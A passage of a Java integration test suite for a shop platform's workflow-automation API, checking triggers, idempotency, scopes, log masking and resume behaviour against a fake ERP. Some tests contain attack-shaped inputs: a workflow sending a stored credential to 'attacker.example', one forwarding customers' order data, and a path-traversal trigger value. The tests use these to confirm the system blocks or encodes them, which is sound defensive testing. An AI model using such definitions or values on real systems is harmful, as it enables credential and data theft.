package app.dukkan.automation.run;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.containing;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import app.dukkan.automation.Workflow;
import app.dukkan.automation.workflow.CustomerData;
import app.dukkan.automation.workflow.WorkflowStore;
import app.dukkan.testing.ApiClient;
import app.dukkan.testing.ApiClient.Response;
import app.dukkan.testing.CatalogFixtures;
import app.dukkan.testing.DukkanTest;
import com.github.tomakehurst.wiremock.WireMockServer;
import io.micrometer.tracing.Span;
import io.micrometer.tracing.Tracer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.io.ClassPathResource;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** Workflows over real HTTP: saved, triggered with an API key, run step by step against a fake ERP. */
@DukkanTest
class WorkflowRunTests {

    static final WireMockServer ERP = new WireMockServer(wireMockConfig().dynamicPort());
    static final JsonMapper JSON = JsonMapper.builder().build();

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    TriggerBatches batches;

    @Autowired
    WorkflowStore store;

    @Autowired
    Tracer tracer;

    ApiClient admin;

    @BeforeAll
    static void start() {
        ERP.start();
    }

    @AfterAll
    static void stop() {
        ERP.stop();
    }

    @BeforeEach
    void signIn() {
        admin = new CatalogFixtures(port).admin();
    }

    static JsonNode json(String text) {
        return JSON.readTree(text);
    }

    String erp(String path) {
        return "http://localhost:" + ERP.port() + path;
    }

    /** An order webhook: posts the order to the ERP, then notifies a second endpoint for big orders only. */
    JsonNode orderWorkflow(String path) {
        return json("""
                {"name": "Order to ERP",
                 "trigger": {"type": "webhook"},
                 "input": {"type": "object", "required": ["number", "total"],
                           "properties": {"number": {"type": "string"}, "total": {"type": "number"},
                                          "email": {"type": "string"}}},
                 "steps": [
                   {"id": "erp", "connector": "http",
                    "input": {"url": "%s", "body": {"order": "{{trigger.number}}", "total": "{{trigger.total}}"}}},
                   {"id": "big", "connector": "http", "when": {"path": "trigger.total", "op": "gte", "value": 1000},
                    "input": {"url": "%s", "body": {"text": "Big order {{trigger.number}}: {{steps.erp.output.body.id}}"}}}
                 ]}""".formatted(erp(path), erp(path + "/big")));
    }

    String create(String key, JsonNode definition) {
        admin.post("/api/v1/workflows", Map.of("key", key, "definition", definition))
                .expectStatus(201);
        admin.post("/api/v1/workflows/" + key + "/enable", null).expectStatus(200);
        return key;
    }

    ApiClient keyed(String... scopes) {
        return keyedBy(secret(scopes));
    }

    String secret(String... scopes) {
        return admin.post("/api/v1/me/api-keys", Map.of("name", CatalogFixtures.unique("k"), "scopes", List.of(scopes)))
                .expectStatus(201)
                .json()
                .get("secret")
                .asString();
    }

    ApiClient keyedBy(String secret) {
        return new ApiClient(port).withoutCsrf().header("Authorization", "Bearer " + secret);
    }

    JsonNode awaitRun(String runId, String status) {
        return await().atMost(Duration.ofSeconds(30))
                .pollInterval(Duration.ofMillis(100))
                .until(
                        () -> admin.get("/api/v1/runs/" + runId)
                                .expectStatus(200)
                                .json(),
                        run -> run.get("run").get("status").asString().equals(status));
    }

    /** Triggers the workflow with a key that has {@code triggers:write}; the run's id. */
    String started(String key, Map<String, ?> body) {
        return keyed("triggers:write")
                .post("/api/v1/triggers/" + key, body)
                .expectStatus(202)
                .json()
                .get("run_id")
                .asString();
    }

    /** The ERP answers 200 with a JSON body {@code {"id": <id>}} at {@code path}. */
    static void answersWithId(String path, String id) {
        ERP.stubFor(post(urlEqualTo(path))
                .willReturn(aResponse()
                        .withStatus(200)
                        .withBody("{\"id\": \"" + id + "\"}")
                        .withHeader("Content-Type", "application/json")));
    }

    long runs(String key) {
        return jdbc.sql(
                        "select count(*) from automation_runs r join automation_workflows w on w.id = r.workflow_id where w.key = ?")
                .param(key)
                .query(Long.class)
                .single();
    }

    @Test
    void runsEachStepOnceWithTemplatesConditionsSignaturesAndIdempotencyKeys() {
        ERP.stubFor(post(urlEqualTo("/orders"))
                .willReturn(aResponse()
                        .withStatus(201)
                        .withHeader("Content-Type", "application/json")
                        .withBody("{\"id\": \"erp-7\"}")));
        ERP.stubFor(post(urlEqualTo("/orders/big")).willReturn(aResponse().withStatus(200)));
        String key = create(CatalogFixtures.unique("orders-"), orderWorkflow("/orders"));
        ApiClient client = keyed("triggers:write");

        Response small = client.post("/api/v1/triggers/" + key, Map.of("number", "DK-1", "total", 20))
                .expectStatus(202);
        Response big = client.post("/api/v1/triggers/" + key, Map.of("number", "DK-2", "total", 1500))
                .expectStatus(202);
        assertThat(small.header("Location")).startsWith("/api/v1/runs/");

        JsonNode smallRun = awaitRun(small.json().get("run_id").asString(), "succeeded");
        JsonNode bigRun = awaitRun(big.json().get("run_id").asString(), "succeeded");
        assertThat(smallRun.get("steps")
                        .valueStream()
                        .map(step -> step.get("status").asString()))
                .containsExactly("succeeded", "skipped");
        assertThat(bigRun.get("steps").get(1).get("status").asString()).isEqualTo("succeeded");
        assertThat(bigRun.get("run").get("version").asInt()).isEqualTo(1);

        String bigId = big.json().get("run_id").asString();
        ERP.verify(
                1,
                postRequestedFor(urlEqualTo("/orders"))
                        .withHeader("Idempotency-Key", equalTo(bigId + ":erp"))
                        .withRequestBody(equalToJson("{\"order\": \"DK-2\", \"total\": 1500}")));
        ERP.verify(
                1,
                postRequestedFor(urlEqualTo("/orders/big"))
                        .withHeader("Idempotency-Key", equalTo(bigId + ":big"))
                        .withRequestBody(equalToJson("{\"text\": \"Big order DK-2: erp-7\"}")));
        assertThat(ERP.findAll(postRequestedFor(urlEqualTo("/orders"))).get(0).getHeader("Dukkan-Signature"))
                .matches("t=\\d+,v1=[0-9a-f]{64}");
    }

    @Test
    void answersARepeatedIdempotencyKeyWithTheFirstRunAndRefusesItWithAnotherBody() {
        ERP.stubFor(post(urlEqualTo("/idem")).willReturn(aResponse().withStatus(200)));
        String key = create(CatalogFixtures.unique("idem-"), orderWorkflow("/idem"));
        ApiClient client = keyed("triggers:write").header("Idempotency-Key", "order-DK-9");

        Response first = client.post("/api/v1/triggers/" + key, Map.of("number", "DK-9", "total", 5))
                .expectStatus(202);
        Response again = client.post("/api/v1/triggers/" + key, Map.of("number", "DK-9", "total", 5))
                .expectStatus(202);
        assertThat(again.json().get("run_id").asString())
                .isEqualTo(first.json().get("run_id").asString());
        assertThat(again.json().get("created").asBoolean()).isFalse();

        Response other = client.post("/api/v1/triggers/" + key, Map.of("number", "DK-9", "total", 6))
                .expectStatus(409);
        assertThat(other.json().get("type").asString()).endsWith("/idempotency-key-reused");
        assertThat(runs(key)).isEqualTo(1);

        // a retry (as a 503 asks for) after the workflow was disabled still learns its run
        admin.post("/api/v1/workflows/" + key + "/disable", null).expectStatus(200);
        Response retried = client.post("/api/v1/triggers/" + key, Map.of("number", "DK-9", "total", 5))
                .expectStatus(202);
        assertThat(retried.json().get("run_id").asString())
                .isEqualTo(first.json().get("run_id").asString());
        assertThat(retried.json().get("created").asBoolean()).isFalse();
        assertThat(client.post("/api/v1/triggers/" + key, Map.of("number", "DK-9", "total", 6))
                        .expectStatus(409)
                        .json()
                        .get("type")
                        .asString())
                .endsWith("/workflow-disabled");
        assertThat(runs(key)).isEqualTo(1);
    }

    @Test
    void refusesBadTriggersClearlyAndStartsNothing() {
        String key = create(CatalogFixtures.unique("refuse-"), orderWorkflow("/refuse"));
        ApiClient client = keyed("triggers:write");

        client.post("/api/v1/triggers/no-such-workflow", Map.of()).expectStatus(404);
        Response invalid =
                client.post("/api/v1/triggers/" + key, Map.of("number", 12)).expectStatus(422);
        assertThat(invalid.json().get("errors").toString()).contains("total").contains("number");
        Response malformed = client.sendRaw("POST", "/api/v1/triggers/" + key, "{\"number\": ", "application/json")
                .expectStatus(400);
        assertThat(malformed.json().get("type").asString()).endsWith("/malformed-json");
        String huge = "{\"number\": \"DK-1\", \"total\": 1, \"email\": \"" + "x".repeat(600 * 1024) + "\"}";
        client.sendRaw("POST", "/api/v1/triggers/" + key, huge, "application/json")
                .expectStatus(413);
        keyed("orders:read")
                .post("/api/v1/triggers/" + key, Map.of("number", "DK-1", "total", 1))
                .expectStatus(403);
        new ApiClient(port)
                .withoutCsrf()
                .header("Authorization", "Bearer dk_000000000000_nope")
                .post("/api/v1/triggers/" + key, Map.of("number", "DK-1", "total", 1))
                .expectStatus(401);

        admin.post("/api/v1/workflows/" + key + "/disable", null).expectStatus(200);
        Response disabled = client.post("/api/v1/triggers/" + key, Map.of("number", "DK-1", "total", 1))
                .expectStatus(409);
        assertThat(disabled.json().get("type").asString()).endsWith("/workflow-disabled");
        assertThat(runs(key)).isZero();
    }

    @Test
    void refusesDefinitionsThatDoNotMatchTheSchemaOrNameWhatDoesNotExist() {
        Response missing = admin.post(
                        "/api/v1/workflows",
                        Map.of(
                                "key",
                                CatalogFixtures.unique("bad-"),
                                "definition",
                                json("{\"name\": \"x\", \"trigger\": {\"type\": \"webhook\"}}")))
                .expectStatus(422);
        assertThat(missing.json().get("errors").toString()).contains("steps");

        Response cron = admin.post(
                        "/api/v1/workflows", Map.of("key", CatalogFixtures.unique("bad-"), "definition", json("""
                                {"name": "x", "trigger": {"type": "cron", "cron": "0 0 25 * * *", "zone": "Mars/Olympus"},
                                 "steps": [{"id": "a", "connector": "http", "input": {"url": "http://localhost/x"}}]}""")))
                .expectStatus(422);
        assertThat(cron.json().get("errors").toString()).contains("trigger.zone");

        Response template = admin.post(
                        "/api/v1/workflows", Map.of("key", CatalogFixtures.unique("bad-"), "definition", json("""
                                {"name": "x", "trigger": {"type": "event", "event": "order.paid"},
                                 "steps": [
                                   {"id": "a", "connector": "http", "input": {"url": "http://localhost/x",
                                     "body": {"who": "{{trigger.customerName}}", "next": "{{steps.b.output.id}}"}}},
                                   {"id": "a", "connector": "http", "input": {"url": "http://localhost/y"}}]}""")))
                .expectStatus(422);
        String errors = template.json().get("errors").toString();
        assertThat(errors)
                .contains("steps[0].input.body.who")
                .contains("customerName")
                .contains("steps[0].input.body.next")
                .contains("steps[1].id");

        Response item = admin.post(
                        "/api/v1/workflows", Map.of("key", CatalogFixtures.unique("bad-"), "definition", json("""
                                {"name": "x", "trigger": {"type": "event", "event": "order.paid"},
                                 "steps": [{"id": "a", "connector": "http",
                                            "input": {"url": "http://localhost/x", "body": {"to": "{{item.phone}}"}}},
                                           {"id": "b", "connector": "http", "forEach": "steps.a.output.body",
                                            "input": {"url": "http://localhost/y"}},
                                           {"id": "c", "connector": "http", "forEach": "trigger.lines",
                                            "input": {"url": "http://localhost/z"}}]}""")))
                .expectStatus(422);
        assertThat(item.json().get("errors").toString())
                .contains("steps[0].input.body.to")
                .contains("names the item of a list")
                .contains("steps[2].forEach")
                .doesNotContain("steps[1].forEach");

        Response unknownEvent = admin.post(
                        "/api/v1/workflows", Map.of("key", CatalogFixtures.unique("bad-"), "definition", json("""
                                {"name": "x", "trigger": {"type": "event", "event": "order.exploded"},
                                 "steps": [{"id": "a", "connector": "fax", "input": {}}]}""")))
                .expectStatus(422);
        assertThat(unknownEvent.json().get("errors").toString())
                .contains("trigger")
                .contains("steps[0].connector");
        assertThat(jdbc.sql("select count(*) from automation_workflows where key like 'bad-%'")
                        .query(Long.class)
                        .single())
                .isZero();
    }

    @Test
    void aWorkflowsKeyReachesNoCredentialOrOrdersBeyondItsScopes() {
        ApiClient workflowsOnly = keyed("workflows:write");
        JsonNode sendsCredential = json("""
                {"name": "Credential out", "trigger": {"type": "webhook"},
                 "steps": [{"id": "out", "connector": "http",
                            "input": {"url": "https://attacker.example/x", "credential": "erp"}}]}""");
        JsonNode readsOrders = json("""
                {"name": "Orders out", "trigger": {"type": "webhook"},
                 "steps": [{"id": "shipped", "connector": "orders", "input": {"shippedOn": "2026-01-01", "zone": "UTC"}}]}""");

        JsonNode refused = workflowsOnly
                .post(
                        "/api/v1/workflows",
                        Map.of("key", CatalogFixtures.unique("cred-"), "definition", sendsCredential))
                .expectStatus(403)
                .json();
        assertThat(refused.get("detail").asString()).contains("admin");
        assertThat(refused.get("required_scope").asString()).isEqualTo("admin");
        assertThat(workflowsOnly
                        .post(
                                "/api/v1/workflows",
                                Map.of("key", CatalogFixtures.unique("ord-"), "definition", readsOrders))
                        .expectStatus(403)
                        .json()
                        .get("detail")
                        .asString())
                .contains("orders:read");
        // nor by changing a workflow an administrator made
        String key = create(CatalogFixtures.unique("plain-"), orderWorkflow("/plain"));
        workflowsOnly.put("/api/v1/workflows/" + key, sendsCredential).expectStatus(403);

        admin.post("/api/v1/workflows/" + key + "/disable", Map.of("reason", "x".repeat(1_001)))
                .expectStatus(400);
        keyed("workflows:write", "orders:read")
                .post("/api/v1/workflows", Map.of("key", CatalogFixtures.unique("ord-"), "definition", readsOrders))
                .expectStatus(201);
        keyed("admin")
                .post(
                        "/api/v1/workflows",
                        Map.of("key", CatalogFixtures.unique("cred-"), "definition", sendsCredential))
                .expectStatus(201);
    }

    @Test
    void listsAWorkflowsVersionsAPageAtATime() {
        String key = create(CatalogFixtures.unique("versions-"), orderWorkflow("/versions"));
        for (int version = 2; version <= 5; version++) {
            ObjectNode definition = (ObjectNode) orderWorkflow("/versions");
            definition.put("name", "Version " + version);
            admin.put("/api/v1/workflows/" + key, definition).expectStatus(200);
        }
        List<Integer> seen = new ArrayList<>();
        String cursor = null;
        int pages = 0;
        do {
            JsonNode page = admin.get("/api/v1/workflows/" + key + "/versions?limit=2"
                            + (cursor == null ? "" : "&cursor=" + cursor))
                    .expectStatus(200)
                    .json();
            page.get("items").forEach(item -> seen.add(item.get("version").asInt()));
            cursor = page.hasNonNull("next") ? page.get("next").asString() : null;
            pages++;
        } while (cursor != null);

        assertThat(seen).containsExactly(5, 4, 3, 2, 1);
        assertThat(pages).isEqualTo(3);
        JsonNode newest = admin.get("/api/v1/workflows/" + key + "/versions")
                .expectStatus(200)
                .json()
                .get("items")
                .get(0);
        assertThat(newest.get("definition").get("name").asString()).isEqualTo("Version 5");
        for (String bad : List.of("limit=0", "limit=101", "cursor=x", "cursor=-3")) {
            admin.get("/api/v1/workflows/" + key + "/versions?" + bad).expectStatus(400);
        }
    }

    @Test
    void refusesAStepsHeadersThatTheHttpConnectorSetsInAnyCaseWhenSaved() {
        JsonNode definition = json("""
                {"name": "Own headers", "trigger": {"type": "webhook"},
                 "steps": [{"id": "out", "connector": "http",
                            "input": {"url": "%s", "headers": {"idempotency-key": "mine", "CONTENT-TYPE": "text/plain",
                                                              "X-Tenant": "a", "x-tenant": "b", "X-Ok": "c"}}}]}""".formatted(erp("/own")));

        JsonNode refused = admin.post(
                        "/api/v1/workflows", Map.of("key", CatalogFixtures.unique("own-"), "definition", definition))
                .expectStatus(422)
                .json();

        assertThat(refused.get("errors")
                        .valueStream()
                        .map(error -> error.get("field").asString()))
                .containsExactlyInAnyOrder(
                        "steps[0].input.headers.idempotency-key",
                        "steps[0].input.headers.CONTENT-TYPE",
                        "steps[0].input.headers.x-tenant");
        assertThat(refused.get("errors").toString())
                .contains("set by the connector")
                .contains("named twice");
    }

    @Test
    void aKeyNeedsOrdersReadToTestStartOrReadTheRunsOfAWorkflowThatReadsOrders() {
        String key = CatalogFixtures.unique("reads-");
        admin.post("/api/v1/workflows", Map.of("key", key, "definition", json("""
                        {"name": "Shipped today", "trigger": {"type": "webhook"},
                         "steps": [{"id": "shipped", "connector": "orders",
                                    "input": {"shippedOn": "2026-01-01", "zone": "UTC"}}]}""")))
                .expectStatus(201);
        ApiClient workflowsOnly = keyed("workflows:write");

        JsonNode refusedTest = workflowsOnly
                .post("/api/v1/workflows/" + key + "/test", Map.of())
                .expectStatus(403)
                .json();
        assertThat(refusedTest.get("required_scope").asString()).isEqualTo("orders:read");
        assertThat(refusedTest.get("detail").asString()).contains("reads orders");
        assertThat(workflowsOnly
                        .post("/api/v1/workflows/" + key + "/runs", Map.of())
                        .expectStatus(403)
                        .json()
                        .get("required_scope")
                        .asString())
                .isEqualTo("orders:read");
        assertThat(runs(key)).isZero();
        keyed("workflows:write", "orders:read")
                .post("/api/v1/workflows/" + key + "/test", Map.of())
                .expectStatus(200);

        String runId = admin.post("/api/v1/workflows/" + key + "/runs", Map.of())
                .expectStatus(202)
                .json()
                .get("run")
                .get("id")
                .asString();
        awaitRun(runId, "succeeded");
        workflowsOnly.get("/api/v1/runs/" + runId).expectStatus(403);
        assertThat(workflowsOnly
                        .get("/api/v1/runs?workflow=" + key)
                        .expectStatus(200)
                        .json()
                        .get("items"))
                .isEmpty();
        assertThat(keyed("logs:read")
                        .get("/api/v1/logs?run=" + runId)
                        .expectStatus(200)
                        .json()
                        .get("items"))
                .isEmpty();
        ApiClient ordersToo = keyed("workflows:write", "logs:read", "orders:read");
        ordersToo.get("/api/v1/runs/" + runId).expectStatus(200);
        assertThat(ordersToo
                        .get("/api/v1/logs?run=" + runId)
                        .expectStatus(200)
                        .json()
                        .get("items"))
                .isNotEmpty();
    }

    @Test
    void versionsSavedBeforeTheirFlagWereMarkedByItsMigration() throws Exception {
        String migration = new String(
                new ClassPathResource("db/migration/V99__automation_versions_customer_data.sql")
                        .getInputStream()
                        .readAllBytes(),
                StandardCharsets.UTF_8);
        assertThat(CustomerData.EVENTS)
                .allSatisfy(event -> assertThat(migration).contains("'" + event + "'"));
        String readsOrders = create(CatalogFixtures.unique("old-"), json("""
                {"name": "Old", "trigger": {"type": "webhook"},
                 "steps": [{"id": "shipped", "connector": "orders", "input": {"shippedOn": "2026-01-01"}}]}"""));
        String plain = create(CatalogFixtures.unique("old-"), orderWorkflow("/old"));
        // as the versions saved before the flag were
        jdbc.sql("""
                        update automation_workflow_versions set customer_data = false
                        where workflow_id in (select id from automation_workflows where key in (?, ?))""").params(readsOrders, plain).update();

        jdbc.sql(migration.substring(migration.indexOf("update automation_workflow_versions")))
                .update();

        assertThat(jdbc.sql("""
                        select w.key from automation_workflow_versions v join automation_workflows w on w.id = v.workflow_id
                        where w.key in (?, ?) and v.customer_data""").params(readsOrders, plain).query(String.class).list())
                .containsExactly(readsOrders);
    }

    @Test
    void aSignedLinkALaterStepCarriesIsMaskedInThatStepsLogLines() {
        ERP.stubFor(post(urlPathEqualTo("/signed-out")).willReturn(aResponse().withStatus(400)));
        String key = create(CatalogFixtures.unique("linked-"), json("""
                {"name": "Receipt to ERP", "trigger": {"type": "webhook"},
                 "steps": [
                   {"id": "receipt", "connector": "pdf",
                    "input": {"template": "payment_receipt", "data": {"orderNumber": "DK-8", "total": "10 EUR"}}},
                   {"id": "erp", "connector": "http",
                    "input": {"url": "%s?doc={{steps.receipt.output.url}}",
                              "body": {"text": "Receipt: {{steps.receipt.output.url}}",
                                       "receipt": "{{steps.receipt.output.url}}"}}}]}""".formatted(erp("/signed-out"))));

        String runId = started(key, Map.of());

        JsonNode failed = awaitRun(runId, "failed");
        String url = failed.get("steps").get(0).get("output").get("url").asString();
        ERP.verify(postRequestedFor(urlPathEqualTo("/signed-out")).withRequestBody(containing(url)));
        List<String> logged = jdbc.sql("select message || cast(data as text) from automation_logs where run_id = ?")
                .param(UUID.fromString(runId))
                .query(String.class)
                .list();
        String signature = url.substring(url.indexOf("signature=") + "signature=".length());
        assertThat(logged)
                .isNotEmpty()
                .allSatisfy(line -> assertThat(line)
                        .doesNotContain("/files/signed/")
                        .doesNotContain("%2Ffiles%2Fsigned%2F")
                        .doesNotContain(signature));
        String retrying = jdbc.sql(
                        "select cast(data as text) from automation_logs where run_id = ? and status = 'retrying'")
                .param(UUID.fromString(runId))
                .query(String.class)
                .single();
        assertThat(retrying).contains("Receipt: [signed url]").contains("?doc=[signed url]");
    }

    @Test
    void aKeyNeedsOrdersReadForAWorkflowStartedByAnEventCarryingCustomersDataAndForItsRuns() {
        answersWithId("/customers", "c-1");
        JsonNode exfiltrates = json("""
                {"name": "Customers out", "trigger": {"type": "event", "event": "order.paid"},
                 "steps": [{"id": "out", "connector": "http", "input": {"url": "%s", "body": "{{trigger}}"}}]}""".formatted(erp("/customers")));
        ApiClient workflowsOnly = keyed("workflows:write");

        JsonNode refused = workflowsOnly
                .post("/api/v1/workflows", Map.of("key", CatalogFixtures.unique("cust-"), "definition", exfiltrates))
                .expectStatus(403)
                .json();
        assertThat(refused.get("type").asString()).endsWith("/insufficient-scope");
        assertThat(refused.get("required_scope").asString()).isEqualTo("orders:read");
        assertThat(refused.get("detail").asString()).contains("order.paid").contains("orders:read");
        // nor by turning a workflow into one, nor by enabling one an administrator saved
        String plain = create(CatalogFixtures.unique("plain-"), orderWorkflow("/customers"));
        workflowsOnly.put("/api/v1/workflows/" + plain, exfiltrates).expectStatus(403);
        String key = CatalogFixtures.unique("cust-");
        admin.post("/api/v1/workflows", Map.of("key", key, "definition", exfiltrates))
                .expectStatus(201);
        assertThat(workflowsOnly
                        .post("/api/v1/workflows/" + key + "/enable", null)
                        .expectStatus(403)
                        .json()
                        .get("required_scope")
                        .asString())
                .isEqualTo("orders:read");
        keyed("workflows:write", "orders:read")
                .post("/api/v1/workflows/" + key + "/enable", null)
                .expectStatus(200);
        // an event without customers' data needs nothing more
        workflowsOnly
                .post(
                        "/api/v1/workflows",
                        Map.of("key", CatalogFixtures.unique("low-"), "definition", json("""
                        {"name": "Low stock", "trigger": {"type": "event", "event": "stock.low"},
                         "steps": [{"id": "out", "connector": "http",
                                    "input": {"url": "%s", "body": "{{trigger}}"}}]}""".formatted(
                                        erp("/customers")))))
                .expectStatus(201);

        String runId = admin.post("/api/v1/workflows/" + key + "/runs", Map.of("email", "jane@example.com"))
                .expectStatus(202)
                .json()
                .get("run")
                .get("id")
                .asString();
        awaitRun(runId, "succeeded");
        assertThat(workflowsOnly
                        .get("/api/v1/runs/" + runId)
                        .expectStatus(403)
                        .json()
                        .get("required_scope")
                        .asString())
                .isEqualTo("orders:read");
        workflowsOnly.post("/api/v1/runs/" + runId + "/resume", null).expectStatus(403);
        assertThat(workflowsOnly
                        .get("/api/v1/runs?workflow=" + key)
                        .expectStatus(200)
                        .json()
                        .get("items"))
                .isEmpty();
        assertThat(workflowsOnly
                        .get("/api/v1/runs?limit=200")
                        .expectStatus(200)
                        .json()
                        .get("items")
                        .toString())
                .doesNotContain(runId);
        assertThat(keyed("logs:read")
                        .get("/api/v1/logs?run=" + runId)
                        .expectStatus(200)
                        .json()
                        .get("items"))
                .isEmpty();
        ApiClient ordersToo = keyed("workflows:write", "logs:read", "orders:read");
        ordersToo.get("/api/v1/runs/" + runId).expectStatus(200);
        assertThat(ordersToo
                        .get("/api/v1/runs?workflow=" + key)
                        .expectStatus(200)
                        .json()
                        .get("items"))
                .hasSize(1);
        assertThat(ordersToo
                        .get("/api/v1/logs?run=" + runId)
                        .expectStatus(200)
                        .json()
                        .get("items"))
                .isNotEmpty();
    }

    @Test
    void anAnswerHoldingTextTheDatabaseRefusesIsKeptAndTheCallNotMadeAgain() {
        ERP.stubFor(post(urlEqualTo("/odd-answer"))
                .willReturn(aResponse()
                        .withStatus(200)
                        .withHeader("Content-Type", "application/json")
                        .withBody("{\"id\": \"n\\u00001\", \"note\": \"half \\ud800 pair\", \"k\\u0000\": true}")));
        String key = create(CatalogFixtures.unique("odd-"), json("""
                {"name": "Odd answer", "trigger": {"type": "webhook"},
                 "steps": [{"id": "post", "connector": "http", "input": {"url": "%s", "body": {"n": 1}}}]}""".formatted(erp("/odd-answer"))));

        String runId = started(key, Map.of());

        JsonNode done = awaitRun(runId, "succeeded");
        ERP.verify(1, postRequestedFor(urlEqualTo("/odd-answer")));
        assertThat(done.get("steps").get(0).get("output").toString())
                .contains("half \uFFFD pair")
                .doesNotContain("\\u0000");
    }

    @Test
    void aDocumentsSignedLinkIsKeptInTheRunButNotInItsLogs() {
        String key = create(CatalogFixtures.unique("letter-"), json("""
                {"name": "Letter", "trigger": {"type": "webhook"},
                 "steps": [{"id": "letter", "connector": "pdf",
                            "input": {"template": "visa_approved",
                                      "data": {"applicantName": "Ada Lovelace", "passportNumber": "X1234567",
                                               "applicationNumber": "VA-1", "visaType": "Tourist",
                                               "validFrom": "2026-01-01", "validUntil": "2026-12-31"}}}]}"""));

        String runId = started(key, Map.of());

        JsonNode done = awaitRun(runId, "succeeded");
        assertThat(done.get("steps").get(0).get("output").get("url").asString()).contains("/files/signed/");
        JsonNode succeeded = null;
        for (JsonNode line :
                admin.get("/api/v1/logs?run=" + runId).expectStatus(200).json().get("items")) {
            if (line.path("step").asString("").equals("letter")
                    && line.path("status").asString("").equals("succeeded")) {
                succeeded = line;
            }
        }
        assertThat(succeeded).isNotNull();
        assertThat(succeeded.get("data").get("output").has("key")).isTrue();
        assertThat(succeeded.get("data").get("output").has("url")).isFalse();
        assertThat(succeeded.toString()).doesNotContain("/files/signed/");
    }

    @Test
    void aValueWrittenIntoAnUrlStaysOnePathSegmentOrQueryValue() {
        ERP.stubFor(post(urlPathMatching("/encoded/.*")).willReturn(aResponse().withStatus(200)));
        String key = create(CatalogFixtures.unique("encoded-"), json("""
                {"name": "Encoded", "trigger": {"type": "webhook"},
                 "input": {"type": "object", "properties": {"number": {"type": "string"}, "note": {"type": "string"}}},
                 "steps": [{"id": "erp", "connector": "http",
                            "input": {"url": "%s/{{trigger.number}}?note={{trigger.note}}",
                                      "body": {"note": "{{trigger.note}}"}}}]}""".formatted(erp("/encoded"))));

        String runId = started(key, Map.of("number", "../admin?x=1#", "note", "a&b=c d"));

        awaitRun(runId, "succeeded");
        ERP.verify(
                1,
                postRequestedFor(urlEqualTo("/encoded/..%2Fadmin%3Fx%3D1%23?note=a%26b%3Dc%20d"))
                        .withRequestBody(equalToJson("{\"note\": \"a&b=c d\"}")));
        ERP.verify(0, postRequestedFor(urlPathEqualTo("/admin")));
    }

    @Test
    void aFailedRunResumesFromTheFailedStepWithoutRepeatingEarlierOnes() {
        answersWithId("/resume", "r-1");
        ERP.stubFor(post(urlEqualTo("/resume/big"))
                .willReturn(aResponse().withStatus(400).withBody("bad field")));
        String key = create(CatalogFixtures.unique("resume-"), orderWorkflow("/resume"));

        String runId = started(key, Map.of("number", "DK-5", "total", 5000));
        JsonNode failed = awaitRun(runId, "failed");
        assertThat(failed.get("run").get("failed_step").asString()).isEqualTo("big");
        assertThat(failed.get("steps").get(1).get("attempts").asInt()).isEqualTo(1);
        assertThat(jdbc.sql(
                                "select count(*) from job_dead_letters where task_name = 'automation-step-http' and task_instance like ?")
                        .param(runId + "/%")
                        .query(Long.class)
                        .single())
                .isEqualTo(1);

        ERP.stubFor(post(urlEqualTo("/resume/big")).willReturn(aResponse().withStatus(200)));
        admin.post("/api/v1/runs/" + runId + "/resume", null).expectStatus(202);
        // the resume and its audit entry were written by one transaction
        assertThat(jdbc.sql(
                                "select xmin::text from audit_log where action = 'automation.run-resumed' and target_id = ?")
                        .param(runId)
                        .query(String.class)
                        .single())
                .isEqualTo(jdbc.sql("select xmin::text from automation_logs where run_id = ? and status = 'resumed'")
                        .param(UUID.fromString(runId))
                        .query(String.class)
                        .single());
        awaitRun(runId, "succeeded");
        admin.post("/api/v1/runs/" + runId + "/resume", null).expectStatus(409);
        ERP.verify(1, postRequestedFor(urlEqualTo("/resume")));
        ERP.verify(
                2, postRequestedFor(urlEqualTo("/resume/big")).withHeader("Idempotency-Key", equalTo(runId + ":big")));
    }

    @Test
    void twoResumesAtOnceAndAReplayedDeadLetterRunTheFailedStepOnce() throws Exception {
        answersWithId("/twice", "t-1");
        ERP.stubFor(post(urlEqualTo("/twice/big"))
                .willReturn(aResponse().withStatus(400).withBody("bad field")));
        String key = create(CatalogFixtures.unique("twice-"), orderWorkflow("/twice"));
        String runId = started(key, Map.of("number", "DK-6", "total", 5000));
        awaitRun(runId, "failed");
        String deadLetter = jdbc.sql("select id::text from job_dead_letters where task_instance like ?")
                .param(runId + "/%")
                .query(String.class)
                .single();
        ERP.stubFor(post(urlEqualTo("/twice/big"))
                .willReturn(aResponse().withStatus(200).withFixedDelay(1000)));

        ExecutorService clients = Executors.newFixedThreadPool(2);
        List<Integer> statuses;
        try {
            List<Future<Integer>> answers = new ArrayList<>();
            for (int i = 0; i < 2; i++) {
                answers.add(clients.submit(() ->
                        admin.post("/api/v1/runs/" + runId + "/resume", null).status()));
            }
            statuses = new ArrayList<>();
            for (Future<Integer> answer : answers) {
                statuses.add(answer.get(30, TimeUnit.SECONDS));
            }
        } finally {
            clients.shutdownNow();
        }
        assertThat(statuses).containsExactlyInAnyOrder(202, 409);
        // the operator also replays the step's dead letter: its job was scheduled before the resume
